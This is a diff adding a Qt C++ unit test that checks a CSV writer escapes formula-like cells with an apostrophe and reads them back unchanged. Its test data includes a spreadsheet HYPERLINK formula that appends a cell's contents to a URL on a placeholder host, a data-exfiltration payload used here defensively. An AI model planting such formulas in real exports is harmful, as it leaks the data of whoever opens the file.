@@ -63,6 +63,38 @@ private Q_SLOTS:
         QCOMPARE(records->at(0).fields, values);
         QCOMPARE(records->at(1).line, 3);
     }
+
+    // A title from a hostile file must not run as a formula when a lawyer opens the export.
+    void formulasAreWrittenAsTextAndReadBackAsTheyWere()
+    {
+        const QStringList values{QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)"),
+                                 QStringLiteral("+1 555 0100"),
+                                 QStringLiteral("-2+3"),
+                                 QStringLiteral("@SUM(A1)"),
+                                 QStringLiteral("\t=1"),
+                                 QStringLiteral("'quoted"),
+                                 QStringLiteral("'=already"),
+                                 QStringLiteral("a=b"),
+                                 QStringLiteral("plain")};
+        const QString line = Csv::row(values);
+        const QStringList written = line.trimmed().split(QLatin1Char(','));
+        // The probe: the raw cells as a spreadsheet sees them (quotes aside) start with '.
+        for (int i = 0; i < 7; ++i) {
+            QString cell = written.at(i);
+            if (cell.startsWith(QLatin1Char('"')))
+                cell.remove(0, 1);
+            QVERIFY2(cell.startsWith(QLatin1Char('\'')), qPrintable(cell));
+        }
+        QCOMPARE(written.value(written.size() - 2), QStringLiteral("a=b"));
+        QCOMPARE(written.last(), QStringLiteral("plain"));
+        auto records = Csv::parse(line.toUtf8());
+        QVERIFY(records.ok());
+        QCOMPARE(records->at(0).fields, values);
+        // What a spreadsheet wrote keeps a leading apostrophe unless it guards a formula.
+        auto typed = Csv::parse("'note,'=1\n");
+        QVERIFY(typed.ok());
+        QCOMPARE(typed->at(0).fields, (QStringList{QStringLiteral("'note"), QStringLiteral("=1")}));
+    }
 };
 
 QTEST_GUILESS_MAIN(TestCsv)
